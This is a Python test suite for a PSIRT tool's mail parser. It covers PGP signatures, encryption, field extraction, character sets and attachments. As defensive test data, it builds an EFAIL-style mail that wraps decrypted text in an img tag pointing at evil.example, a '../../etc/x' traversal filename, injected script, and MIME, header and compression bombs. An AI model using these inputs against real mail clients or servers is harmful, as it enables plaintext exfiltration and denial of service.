"""`tocsin mail parse`: what is found in mails, by the real parser child and the real gpg.

The shared mail set judges what it covers; mails made here with fresh keys cover the rest: wrong,
expired, revoked and unknown keys, missing and broken integrity protection, PGP around and inside
other parts, character sets, bombs.
"""
import base64
import json
import os
import shutil
import subprocess
import tempfile
import time

import tocsin_test as t

if not shutil.which("gpg"):
    t.skip("no gpg")
TEMP = tempfile.mkdtemp(prefix="tsn-mail-", dir="/tmp")
t.atexit.register(shutil.rmtree, TEMP, True)
DATA = os.path.join(t.DATA, "mail") if getattr(t, "DATA", None) else os.environ.get(
    "TOCSIN_DATA", os.path.join(t.SOURCE, "..", "shared", "data")) + "/mail"


def gpg(home, *argv, data=None, code=0):
    done = subprocess.run(["gpg", "--homedir", home, "--batch", "--no-tty", "--quiet", "--yes",
                           "--pinentry-mode", "loopback", "--passphrase", "", "--trust-model",
                           "always", *argv], input=data, capture_output=True, timeout=120,
                          check=False)
    assert code is None or done.returncode == code, done.stderr.decode()
    return done.stdout


class Keys:
    """One home with everybody's secret keys, one folder with what the PSIRT knows."""

    def __init__(self):
        self.home = os.path.join(TEMP, "all")
        self.ring = os.path.join(TEMP, "ring")
        os.mkdir(self.home, 0o700)
        os.mkdir(self.ring)
        for name in ("psirt", "alice", "mallory", "dave"):
            gpg(self.home, "--quick-generate-key", "%s <%s@tocsin.example>" % (name, name),
                "future-default", "default", "never")
        gpg(self.home, "--faked-system-time", "20200101T000000", "--quick-generate-key",
            "carol <carol@tocsin.example>", "future-default", "default", "1d")
        self.put("psirt.sec", gpg(self.home, "--armor", "--export-secret-keys", "psirt@"))
        for name in ("alice", "carol", "dave"):
            self.put(name, gpg(self.home, "--armor", "--export", name + "@"))
        t.atexit.register(subprocess.run, ["gpgconf", "--homedir", self.home, "--kill", "all"],
                          stderr=subprocess.DEVNULL)

    def put(self, name, data):
        with open(os.path.join(self.ring, name + ".asc"), "wb") as f:
            f.write(data)

    def fpr(self, name):
        lines = gpg(self.home, "--with-colons", "--list-keys", name + "@").decode().split("\n")
        return [x.split(":")[9] for x in lines if x.startswith("fpr")][0]


_keys = []


def keys():
    if not _keys:
        _keys.append(Keys())
    return _keys[0]


def parse(raw, keyring=True, more=(), code=0):
    if isinstance(raw, str):
        raw = raw.replace("\n", "\r\n").encode()
    argv = [t.BINARY, "mail", "parse", "-", "--json", *more]
    if keyring:
        argv += ["--keyring", keys().ring]
    done = subprocess.run(argv, input=raw, capture_output=True, timeout=60 * t.PATIENCE,
                          check=False)
    assert done.returncode == code, (done.returncode, done.stderr.decode())
    return json.loads(done.stdout) if code == 0 else json.loads(done.stderr)


HEAD = ("From: Alice <alice@tocsin.example>\nTo: psirt@vendor.example\nSubject: A flaw\n"
        "Message-ID: <1@tocsin.example>\nMIME-Version: 1.0\n")
BODY = "Content-Type: text/plain; charset=utf-8\n\nA heap overflow in the web server.\n"


def encrypted(inner, to=("psirt",), sign=None, extra=(), head=HEAD):
    argv = ["--armor", "--encrypt", *extra]
    for name in to:
        argv += ["-r", name + "@"]
    if sign:
        argv += ["--sign", "-u", sign + "@"]
    text = gpg(keys().home, *argv, data=inner.replace("\n", "\r\n").encode()).decode()
    return (head + 'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; '
            'boundary="b"\n\n--b\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n--b\n'
            "Content-Type: application/octet-stream\n\n" + text + "\n--b--\n")


def signed(by, inner=BODY, extra=(), head=HEAD):
    sig = gpg(keys().home, "--armor", "--detach-sign", "-u", by + "@", *extra,
              data=inner.replace("\n", "\r\n").encode()).decode()
    return (head + 'Content-Type: multipart/signed; micalg=pgp-sha512; protocol='
            '"application/pgp-signature"; boundary="s"\n\n--s\n' + inner + "\n--s\n"
            "Content-Type: application/pgp-signature\n\n" + sig + "\n--s--\n")


def problems(mail):
    return [p["code"] for p in mail["problems"]]


def test_shared_set():
    if not os.path.isdir(DATA):
        print("no %s: left out" % DATA)
        return
    base = os.path.join(DATA, "pgp-mime-generated")
    with open(os.path.join(base, "manifest.json"), encoding="utf-8") as f:
        manifest = json.load(f)
    for want in manifest["messages"]:
        done = subprocess.run([t.BINARY, "mail", "parse", os.path.join(base, want["file"]),
                               "--keyring", os.path.join(base, "keys"), "--json"],
                              capture_output=True, timeout=60 * t.PATIENCE, check=True)
        mail = json.loads(done.stdout)
        for key, value in want.items():
            if key == "signer":
                assert mail["signer"].lower().startswith(value), (want, mail["signer"])
            elif key != "file":
                assert mail.get(key) == value, (want["file"], key, value, mail.get(key))
    assert len(manifest["messages"]) >= 10
    # Every other mail of the set gives an object, in one command.
    files = []
    for folder, _, names in os.walk(DATA):
        files += [os.path.join(folder, n) for n in names if n.endswith((".eml", ".txt", ".inner"))]
    done = subprocess.run([t.BINARY, "mail", "parse", *sorted(files), "--json"],
                          capture_output=True, timeout=120 * t.PATIENCE, check=True)
    mails = [json.loads(x) for x in done.stdout.splitlines()]
    assert len(mails) == len(files) > 50
    assert not [m["file"] for m in mails if "parser-ended" in problems(m)]


def test_plain_and_fields():
    mail = parse(HEAD + "Content-Type: text/plain\n\nHello,\nProduct: EX200\nVersion: 3.1\n"
                 "See CVE-2026-12345, CWE-79 and CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H.\n"
                 "Disclosure date: 2026-12-24\nnot CVE-20-1, not XCWE-1\n")
    assert mail["encrypted"] is False and mail["signature"] == "none"
    assert mail["from"] == {"name": "Alice", "mail": "alice@tocsin.example"}
    assert mail["message_id"] == "1@tocsin.example"
    found = {(f["name"], f["value"], f["line"]) for f in mail["fields"]}
    assert all(f["part"] == "1" and mail["text"].encode()[f["at"]:].startswith(f["value"].encode())
               for f in mail["fields"]), mail["fields"]
    assert found == {("product", "EX200", 2), ("version", "3.1", 3),
                     ("cve", "CVE-2026-12345", 4), ("cwe", "CWE-79", 4),
                     ("cvss", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H", 4),
                     ("disclosure", "2026-12-24", 5)}, found


def test_fields_of_every_part():
    """What another part says is offered with the part that says it; a key with its fingerprint."""
    k = keys()
    key = gpg(k.home, "--armor", "--export", "mallory@").decode()
    bare = gpg(k.home, "--export", "dave@")
    mail = parse(
        HEAD.replace("A flaw", "CVE-2026-1111 in it") +
        'Content-Type: multipart/mixed; boundary="m"\n\n--m\n'
        'Content-Type: multipart/alternative; boundary="a"\n\n--a\n'
        "Content-Type: text/plain\n\nSee Edge Gateway version 9.2.1, it crashes.\n"
        "We intend to publish on 2026-12-24, after 90 days.\nBuilt 2020-01-01.\n" + key +
        "\n--a\nContent-Type: text/html\n\n<p>Also CWE-79</p>\n--a--\n--m\n"
        "Content-Type: text/plain; name=notes.txt\nContent-Disposition: attachment\n\n"
        "First\nCVE-2026-2222 too\nCVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N\n"
        "--m\nContent-Type: message/rfc822\n\nFrom: x@y.example\nSubject: inner\n\nCVE-2026-3333\n"
        "--m\nContent-Type: application/octet-stream; name=dave.gpg\n"
        "Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(bare).decode() + "--m--\n")
    got = {(f["name"], f["value"]): f for f in mail["fields"]}

    def place(name, value):
        f = got[name, value]
        return f.get("part"), f["line"]

    assert place("cve", "CVE-2026-1111") == (None, 0)
    assert place("disclosure", "2026-12-24") == ("1.1", 2)
    assert place("disclosure", "90 days") == ("1.1", 2)
    assert ("disclosure", "2020-01-01") not in got
    assert place("cwe", "CWE-79")[0] == "1.2"
    assert place("cve", "CVE-2026-2222") == ("2", 2) and got["cve", "CVE-2026-2222"]["at"] == 6
    assert place("cvss", "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N") == ("2", 3)
    assert place("cve", "CVE-2026-3333") == ("3.1", 1), got
    assert place("pgp_key", k.fpr("mallory")) == ("1.1", 4), got
    assert place("pgp_key", k.fpr("dave"))[0] == "4", got
    assert "CVE-2026-2222" not in mail["text"]
    # Inside encryption, and around it.
    inner = encrypted("Content-Type: text/plain\n\nInside CVE-2026-4444\n", head="").lstrip()
    mail = parse(HEAD + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\n'
                 "Content-Type: text/plain\n\nOutside CVE-2026-5555\n--m\n" + inner + "\n--m--\n")
    got = {(f["name"], f["value"]): f for f in mail["fields"]}
    assert got["cve", "CVE-2026-4444"]["part"] == "2.2>1" and "outside" not in got["cve", "CVE-2026-4444"]
    assert got["cve", "CVE-2026-5555"]["outside"] is True, got
    # Autocrypt: only the sender's own.
    data = base64.b64encode(gpg(k.home, "--export", "alice@")).decode()
    for addr, want in (("alice@tocsin.example", [("Autocrypt", 0)]), ("eve@x.example", [])):
        mail = parse("Autocrypt: addr=%s; keydata=\n %s\n" % (addr, data) + HEAD + BODY)
        assert [(f["part"], f["line"]) for f in mail["fields"] if f["name"] == "pgp_key"] == want, mail


def test_signatures():
    k = keys()
    good = parse(signed("alice"))
    assert (good["signature"], good["signer_fpr"], good["signature_covers"]) == (
        "good", k.fpr("alice"), "whole"), good
    bad = parse(signed("alice").replace("heap overflow", "heap overgrow"))
    assert (bad["signature"], bad["signer_fpr"]) == ("bad", k.fpr("alice")), bad
    assert "overgrow" in bad["text"], "a bad signature is a state to show, the text stays"
    assert parse(signed("mallory"))["signature"] == "unknown-key"
    late = parse(signed("carol", extra=("--faked-system-time", "20200101T010000")))
    assert late["signature"] == "expired-key", late
    mail = signed("dave")
    assert parse(mail)["signature"] == "good"
    with open(os.path.join(k.home, "openpgp-revocs.d", k.fpr("dave") + ".rev"),
              encoding="utf-8") as f:
        k.put("dave.rev", f.read().replace("\n:-----", "\n-----").encode())
    assert parse(mail)["signature"] == "revoked-key"
    # Whole or part: what stands beside a signed part is not covered.
    inner = signed("alice", head="").lstrip()
    mixed = parse(HEAD + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\n' + inner +
                  "\n--m\nContent-Type: text/plain\n\nAnd pay to this account.\n--m--\n")
    assert (mixed["signature"], mixed["signature_covers"]) == ("good", "part"), mixed
    assert "parts-outside-pgp" in problems(mixed)


def test_encrypted():
    k = keys()
    mail = parse(encrypted(BODY, sign="alice"))
    assert (mail["encrypted"], mail["decryptable"], mail["signature"], mail["signer_fpr"]) == (
        True, True, "good", k.fpr("alice")), mail
    assert "heap overflow" in mail["text"] and "reason" not in mail
    mail = parse(encrypted(BODY, to=("mallory",)))
    assert (mail["decryptable"], mail["reason"], mail["case"], mail["text"]) == (
        False, "no-secret-key", "needs-resend", ""), mail
    assert parse(encrypted(BODY), keyring=False)["reason"] == "no-secret-key"
    # Signed inside, then encrypted: two layers.
    mail = parse(encrypted(signed("alice", head="").lstrip()))
    assert (mail["signature"], mail["decryptable"]) == ("good", True), mail
    # A mangled message, and one without protection against change.
    raw = encrypted(BODY)
    at = raw.index("BEGIN PGP MESSAGE") + 300
    mangled = raw[:at] + ("A" if raw[at] != "A" else "B") + raw[at + 1:]
    mail = parse(mangled)
    assert mail["decryptable"] is False and mail["text"] == "", mail
    mail = parse(encrypted(BODY, extra=("--rfc2440", "--cipher-algo", "AES", "--compress-algo",
                                        "none", "--disable-mdc")))
    assert mail["decryptable"] in (True, False)
    assert (mail["decryptable"], mail["reason"], mail["text"]) == (False, "no-integrity", ""), mail


def test_protected_subject():
    inner = ('Content-Type: text/plain; charset=utf-8; protected-headers="v1"\n'
             "Subject: [PSIRT-2026-0007] The real subject\n\nWords.\n")
    mail = parse(encrypted(inner, head=HEAD.replace("A flaw", "...")))
    assert mail["subject"] == "[PSIRT-2026-0007] The real subject", mail
    assert (mail["outer_subject"], mail["case"]) == ("...", "attach-to:PSIRT-2026-0007")


def test_efail():
    """Plain parts around an encrypted one are never joined with what it holds."""
    inner = encrypted(BODY, head="").lstrip()
    raw = (HEAD + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\nContent-Type: text/html\n\n'
           '<img src="http://evil.example/\n--m\n' + inner + '\n--m\nContent-Type: text/html\n\n'
           '">\n--m--\n')
    mail = parse(raw)
    assert mail["decryptable"] is True and "heap overflow" in mail["text"], mail
    assert "evil" not in json.dumps(mail["text"]) and "heap" not in mail.get("outside_text", "")
    assert "parts-outside-pgp" in problems(mail)
    text = gpg(keys().home, "--armor", "--encrypt", "-r", "psirt@", data=b"inside\n").decode()
    mail = parse(HEAD + "Content-Type: text/plain\n\nBefore.\n" + text + "After.\n")
    assert (mail["inline"], mail["decryptable"], mail["text"]) == (True, True, "inside\n"), mail
    assert "text-outside-pgp" in problems(mail)


def test_inline():
    text = gpg(keys().home, "--clear-sign", "-u", "alice@", data=b"- dashed\nwords\n").decode()
    mail = parse(HEAD + "Content-Type: text/plain\n\n" + text)
    assert (mail["signature"], mail["inline"], mail["text"]) == (
        "good", True, "- dashed\nwords\n"), mail
    key = gpg(keys().home, "--armor", "--export", "mallory@").decode()
    mail = parse(HEAD + "Content-Type: text/plain\n\nMy key:\n" + key)
    assert len(mail["keys"]) == 1 and b"PUBLIC KEY" in base64.b64decode(mail["keys"][0]["data"])


def test_automatic():
    for extra, why in (("Auto-Submitted: auto-replied\n", "auto-reply"),
                       ("Auto-Submitted: no\n", None), ("Precedence: bulk\n", "bulk"),
                       ("List-Id: <oss.example>\n", "list"), ("Return-Path: <>\n", "bounce"),
                       ("X-Autoreply: yes\n", "auto-reply"), ("X-Tocsin-Loop: x\n", "own")):
        mail = parse(extra + HEAD + BODY, keyring=False)
        assert mail["automatic"] == why, (extra, mail["automatic"])
        if why in ("auto-reply", "bounce"):
            assert mail["case"] == "none-" + why


def test_text():
    mail = parse((HEAD + "Content-Type: text/plain; charset=iso-2022-jp\n\n").encode() +
                 "脆弱性\n".encode("iso-2022-jp"), keyring=False)
    assert mail["text"] == "脆弱性\n", mail
    mail = parse((HEAD + "Content-Type: text/plain; charset=koi8-r\n\n").encode() +
                 "Привет\n".encode("koi8-r"), keyring=False)
    assert mail["text"] == "Привет\n", mail
    mail = parse((HEAD + "Content-Type: text/plain; charset=nonsense\n\n").encode() + b"\xe4\n",
                 keyring=False)
    assert mail["text"] == "ä\n" and problems(mail) == ["charset-unknown"], mail
    mail = parse(HEAD + "Content-Type: text/html\n\n<style>x{}</style><p>One &lt;b&gt; two</p>"
                 "<script>evil()</script><img src=\"http://a.example\"><!-- no --><br>three\n",
                 keyring=False)
    assert mail["text"].split() == ["One", "<b>", "two", "three"], mail
    mail = parse((HEAD + BODY).encode() + "a\u202eb\x07c".encode(), keyring=False)
    assert problems(mail) == ["direction-marks"] and "\x07" not in mail["text"]
    mail = parse(b"", keyring=False)
    assert mail["case"] and mail["problems"], mail


def test_attachments():
    mail = parse(HEAD + 'Content-Type: multipart/mixed; boundary="m"\n\n--m\n' + BODY +
                 '\n--m\nContent-Type: application/octet-stream; name="../../etc/x"\n'
                 "Content-Disposition: attachment; filename*=utf-8''%E2%82%AC.bin\n"
                 "Content-Transfer-Encoding: base64\n\nAAEC\n--m\nContent-Type: message/rfc822\n\n"
                 "From: x@y.example\nSubject: inner\n\nforwarded words\n--m--\n", keyring=False)
    assert mail["attachments"] == ["€.bin", "part 3"], mail["attachments"]
    row = [p for p in mail["parts"] if p.get("name")][0]
    assert (row["size"], row["sha256"][:8]) == (3, "ae4b3280"), row
    assert "forwarded" not in mail["text"]
    assert any("forwarded words" in p.get("text", "") for p in mail["parts"])


def test_bombs():
    """Each ends bounded, with a report that says so; the next mail is read as ever."""
    began = time.monotonic()
    deep = HEAD + "".join('Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (i, i)
                          for i in range(2000)) + BODY
    assert "too-deep" in problems(parse(deep, keyring=False))
    many = HEAD + 'Content-Type: multipart/mixed; boundary="m"\n\n' + "--m\n\n" * 200000 + "--m--\n"
    mail = parse(many, keyring=False)
    assert mail["from"]["mail"] == "alice@tocsin.example"
    assert set(problems(mail)) & {"too-many-parts", "parser-ended"}, problems(mail)
    headers = HEAD + "".join("X-%d: y\n" % i for i in range(5000)) + BODY
    assert "too-many-headers" in problems(parse(headers, keyring=False))
    huge = HEAD + "X-Long: " + "a" * (30 << 20) + "\n" + BODY
    mail = parse(huge, keyring=False)
    assert "too-large" in problems(mail) and mail["subject"] == "A flaw", problems(mail)
    zeros = gpg(keys().home, "--armor", "--encrypt", "-r", "psirt@", "--compress-level", "9",
                data=b"\0" * (80 << 20)).decode()
    assert len(zeros) < 1 << 20
    mail = parse(HEAD + "Content-Type: text/plain\n\n" + zeros)
    assert (mail["decryptable"], mail["reason"]) == (False, "too-large"), mail["reason"]
    assert parse(HEAD + BODY, keyring=False)["text"]
    print("bombs: %.1f s" % (time.monotonic() - began))


def test_messages():
    done = subprocess.run([t.BINARY, "mail", "parse", "/nonexistent.eml"], capture_output=True,
                          text=True, check=False, timeout=60)
    assert done.returncode in (1, 4) and "M001" in done.stderr, done
    done = subprocess.run([t.BINARY, "mail", "parse", "-", "--keyring", TEMP + "/none"],
                          input=b"", capture_output=True, check=False, timeout=60)
    assert done.returncode == 4 and b"--keyring names a folder" in done.stderr, done
    done = subprocess.run([t.BINARY, "mail", "parse", "-", "--keyring", keys().ring],
                          input=signed("alice").encode(), capture_output=True, text=False,
                          check=True, timeout=60)
    assert b"signature" in done.stdout and b"good" in done.stdout and b"heap" in done.stdout


t.main()
